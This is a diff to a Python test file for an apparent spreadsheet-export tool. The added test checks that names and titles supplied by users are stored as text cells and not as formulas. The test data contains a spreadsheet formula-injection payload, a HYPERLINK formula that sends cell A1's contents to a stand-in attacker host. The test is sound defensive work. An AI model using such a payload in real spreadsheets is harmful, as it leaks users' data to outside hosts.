@@ -7,6 +7,7 @@ Whether the formulas give the engine's answers is checked by recalculating in Li
 from __future__ import annotations
 
 import io
+import re
 from dataclasses import replace
 from datetime import date, datetime
 from decimal import Decimal
@@ -267,3 +268,32 @@ def test_the_caution_falls_where_the_cumulative_allocation_is_a_hair_from_a_half
         assert caution.startswith("A penny to check, tranche rows 26:")
     else:
         assert caution is None
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+_SHEET_REFERENCE = re.compile(r"'(?:[^']|'')*'!")  # a quoted sheet name in a formula
+
+
+def test_text_from_the_case_is_never_a_formula_wherever_it_is_written(tmp_path):
+    """Every name, title and id the case gives is written as a string cell: a formula in the
+    workbook is always one of Realise's own (the user's text appears in one only as the quoted
+    name of a sheet it refers to)."""
+    case = make_case(
+        savings={HYPERLINK: D("1000.00"), "-minus": D("10.00")},
+        scenarios=[("-s", {HYPERLINK: [(date(2025, 9, 30), D(1))]}, {HYPERLINK: {2025: D(5)}})],
+    )
+    scenarios = tuple(replace(s, name=HYPERLINK) for s in case.scenarios)
+    case = replace(case, organisation="+44 1305 221000", title=HYPERLINK, scenarios=scenarios)
+    book = _book(case, tmp_path)
+    text_cells = 0
+    for ws in book.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if cell.data_type == "f":
+                    assert "HYPERLINK" not in _SHEET_REFERENCE.sub("", cell.value), cell.value
+                elif isinstance(cell.value, str) and (
+                    "evil.example" in cell.value or cell.value.startswith(("+44", "-"))
+                ):
+                    assert cell.data_type == "s"
+                    text_cells += 1
+    assert text_cells >= 8
